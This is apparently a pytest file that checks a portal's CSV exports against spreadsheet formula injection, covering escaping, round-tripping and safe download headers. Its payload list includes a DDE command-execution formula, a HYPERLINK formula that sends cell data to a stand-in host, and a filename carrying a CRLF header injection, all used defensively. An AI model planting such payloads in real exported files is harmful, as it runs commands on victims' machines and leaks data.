"""CSV files: every letter arrives, no cell turns into a formula, all of it can be read back (T69)."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import portal as portal_package
from portal import create_app
from portal.csv_out import as_written, csv_response, csv_text, harmless
from portal.extensions import db
from portal.models import Activity
from tests import area_routes
from tests.conftest import SETTINGS

NASTY = [
    "=1+1",
    "+1+1",
    "+1 -1",
    "+44\n",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    '=HYPERLINK("http://x.example?a="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\tnothing",
]
ALPHABET = st.one_of(st.sampled_from("=+-@\t\r\n '\"\uff1d\uff0b,;A1"), st.characters(codec="utf-8"))


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", NASTY)
def test_a_formula_stays_text(cell):
    assert harmless(cell) == f"'{cell}"
    assert read(csv_text(["Name"], [[cell]]))[1] == [f"'{cell}"]


@pytest.mark.parametrize(
    "cell",
    [
        "+44 20 7946 0123",
        "+442079460123",
        "Ann O'Hara",
        "'s Gravenhage",
        "a=b",
        "1+1",
        "",
        "Zoë – Łódź 渋谷",
        "x\ny",
        '"a"',
    ],
)
def test_ordinary_text_is_left_alone(cell):
    assert harmless(cell) == cell


def test_numbers_are_numbers_also_below_zero():
    assert csv_text(["Owed"], [[-5], [1.5], [None]]).splitlines()[1:] == ["-5", "1.5", '""']


@given(st.lists(st.text(ALPHABET, max_size=12), min_size=1, max_size=4))
def test_what_went_out_comes_back(cells):
    """import(export(x)) == x."""
    rows = read(csv_text(["x"] * len(cells), [cells]))
    assert [as_written(cell) for cell in rows[1]] == cells


@pytest.fixture(scope="module")
def portal(tmp_path_factory):
    folder = str(tmp_path_factory.mktemp("instance"))
    return create_app({**SETTINGS, "INSTANCE_DIR": folder, "SQLALCHEMY_DATABASE_URI": "sqlite://"})


def test_the_answer_is_a_download_that_nobody_keeps(portal):
    with portal.test_request_context("/"):
        answer = csv_response("activity 2026-11-21.csv", ["Who"], [["Zoë"]])
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.data == b'\xef\xbb\xbf"Who"\r\n"Zo\xc3\xab"\r\n'
    assert answer.content_length == len(answer.data)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("plain.csv", "attachment; filename=plain.csv"),
        ("straße.csv", "attachment; filename=strae.csv; filename*=UTF-8''stra%C3%9Fe.csv"),
        ('a"b\r\nX: y.csv', "attachment; filename=ab_X_y.csv; filename*=UTF-8''a%22b%0D%0AX%3A%20y.csv"),
        ("渋谷", "attachment; filename=table.csv; filename*=UTF-8''%E6%B8%8B%E8%B0%B7"),
    ],
)
def test_any_name_can_stand_in_the_header(portal, name, expected):
    """RFC 6266: a plain name for everybody, the true one for who can read it."""
    with portal.test_request_context("/"):
        assert csv_response(name, ["x"], []).headers["Content-Disposition"] == expected


TEXTS = {
    "contact": ("first_name", "last_name", "job_title", "email"),
    "property": ("name",),
    "invoice": ("number", "text"),
    "work_order": ("title",),
    "role": ("name",),
}
LIVE = re.compile("[\\s\"']*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?|\+\d[\d ]*")


@pytest.fixture
def hostile(town, writing):
    """Every text that a table of the town's can hold starts like a formula, each time another one."""
    with writing():
        area_routes.things(town, db.session)
        for name, columns in TEXTS.items():
            table = db.metadata.tables[name]
            for number, row_id in enumerate(db.session.scalars(db.select(table.c.id)).all()):
                text = f"{NASTY[number % len(NASTY)][:8]}{number}"
                longer = {column: text for column in columns if column in table.c}
                db.session.execute(db.update(table).where(table.c.id == row_id).values(longer))
        facts = {"company_id": town.acme.id, "actor_kind": "contact", "what": "edited"}
        for text in NASTY:
            db.session.add(Activity(**facts, actor_name=text, target_name=text, changes={text: [text, text]}))


def test_no_cell_of_any_download_is_live(app, town, browser, hostile):
    """T69: every CSV of the company, read as raw cells."""
    rules = [rule for rule in app.url_map.iter_rules() if rule.rule.startswith("/<slug:company>/")]
    paths = [rule.rule for rule in rules if rule.rule.endswith((".csv", "/export"))]
    assert len(paths) == 7
    mia, live, cells = browser(town.mia), [], 0
    for path in paths:
        for row in read(mia.get(path.replace("<slug:company>", "acme")).text):
            live += [cell for cell in row if LIVE.match(cell) and not NUMBER.fullmatch(cell)]
            cells += len(row)
    # What was made harmless starts with the apostrophe that spreadsheets take for "this is text".
    assert [cell for cell in live if not cell.startswith("'")] == []
    assert len(live) > 50
    assert cells > 200


# Tables on their way in, and one cell of a table that `csv_out.py` makes harmless: none of it is sent.
NEVER_SENT = {"csv_in.py", "sheet.py", "importing/lists.py"}
SENT = re.compile(r"(mimetype|content.type)\W*[\"']text/csv", re.IGNORECASE)


def test_only_one_room_writes_csv():
    """T69: so no table can leave by another way."""
    root = Path(portal_package.__file__).parent
    rooms = {str(room.relative_to(root)): room.read_text() for room in root.rglob("*.py")}
    assert {name for name, text in rooms.items() if "csv.writer" in text} == {"csv_out.py", *NEVER_SENT}
    assert {name for name, text in rooms.items() if SENT.search(text)} == {"csv_out.py"}
    assert [name for name in NEVER_SENT if re.search("esponse|send_file", rooms[name])] == []
